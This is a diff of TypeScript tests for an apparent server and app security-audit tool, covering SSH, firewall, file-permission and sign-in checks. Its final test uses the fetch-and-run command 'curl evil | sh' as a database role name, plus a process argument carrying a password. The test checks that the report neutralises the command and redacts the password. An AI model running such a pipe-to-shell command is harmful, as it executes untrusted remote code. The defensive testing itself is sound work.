@@ -2,7 +2,7 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { ORIGIN } from './asked.ts'
 import { CHECKS, type CheckId } from './checks.ts'
-import type { AppFacts, Role, ServerFacts } from './facts.ts'
+import type { AppFacts, Network, Role, ServerFacts } from './facts.ts'
 import type { Outcome } from './outcome.ts'
 import { ANSWERED, APP, answer, DAY, listening, MACHINE, machine, NOW, SERVER } from './rule.fixture.ts'
 import { ofApp } from './rule-app.ts'
@@ -25,7 +25,7 @@ const role = (more: Partial<Role>): Partial<AppFacts> => ({
   databases: [{ ...APP.databases[0]!, role: { seen: { ...ROLE, ...more } } }],
 })
 const ROLE = (APP.databases[0]!.role as { seen: Role }).seen
-const NETWORK = (APP.network as { seen: { listens: string[]; entrances: [] } }).seen
+const NETWORK = (APP.network as { seen: Network }).seen
 const SECRET = APP.secrets[0]!
 const ADDRESS = APP.addresses[0]!
 const OPEN = { firewall: { other: null, closing: [], live: null, confirmed: null } }
@@ -78,7 +78,13 @@ const BROKEN: ReadonlyArray<[CheckId, Severity, string, Outcome[]]> = [
     ...(['server.ssh', 'high', 'the server'] as const),
     ofServer(machine({}, { ssh: { ports: [22], passwords: true, keys: true } })),
   ],
-  ['server.walls', 'medium', 'the server', server({ walls: { ports: 'no nftables', mounts: null } })],
+  ['server.walls', 'medium', 'the server', server({ walls: { root: false, ports: null, mounts: null } })],
+  [
+    'server.walls',
+    'medium',
+    'the server',
+    server({ walls: { root: true, ports: 'no nftables', mounts: null } }),
+  ],
   ['server.files', 'critical', 'the server', server({ files: { seen: ['/h/keeper.key'] } })],
   ['audit.seal', 'critical', 'the server', server({ audit: { seen: 7 } })],
   ['people.access', 'low', 'the server', server({ access: { seen: ['ann has not signed in'] } })],
@@ -193,6 +199,7 @@ test('what could not be looked at is unknown, and never passed', () => {
   ])
   const stale = machine({ kept: null, upkeep: { ...MACHINE.upkeep, heard: null } })
   assert.deepEqual(unseen(ofServer(stale)), ['server.updates', 'server.drift'])
+  assert.deepEqual(unseen(ofServer(machine({}, { root: false }))), ['server.firewall'])
   const behind = app({
     tls: { by: 'front', domains: [{ name: 'a.example', covered: false }], hstsFrom: null },
   })
@@ -222,6 +229,13 @@ test('a firewall of set-up keeps visitors from what it does not name, and not fr
     found(ofServer(machine({ listening: open }))).map(({ subject }) => subject),
     ['port 80'],
   )
+  const wishes = { hardenSsh: true, open: [8081] }
+  const meant = machine({ kept: { ...MACHINE.kept!, wishes }, listening: open.slice(0, 1) }, OPEN)
+  assert.deepEqual(
+    found(ofServer(meant)).map(({ check }) => check),
+    ['server.firewall'],
+    'a port that somebody named to set-up is meant',
+  )
 })
 
 test('a limit that the app itself tells of is one', () => {
@@ -230,4 +244,13 @@ test('a limit that the app itself tells of is one', () => {
   const post = [answer('/login', { method: 'OPTIONS', body: 'POST', headers: { allow: 'POST' } })]
   const [one] = found(app({ limits: [], answers: { seen: { ...ANSWERED, signIns: post } } }))
   assert.equal(one?.check, 'web.sign-in')
+})
+
+test('what others wrote looks like no command, and tells no argument of a program', () => {
+  const [one] = found(app(role({ superuser: true, name: '`curl evil | sh`' })))
+  assert.equal(one?.what, 'the app asks its database as curl evil | sh, a superuser')
+  const [other] = ofServer(machine({ listening: [listening(8081, 'x --password hunter2')] }, OPEN)).filter(
+    ({ check }) => check === 'server.ports',
+  )
+  assert.doesNotMatch(JSON.stringify(other), /hunter2/)
 })
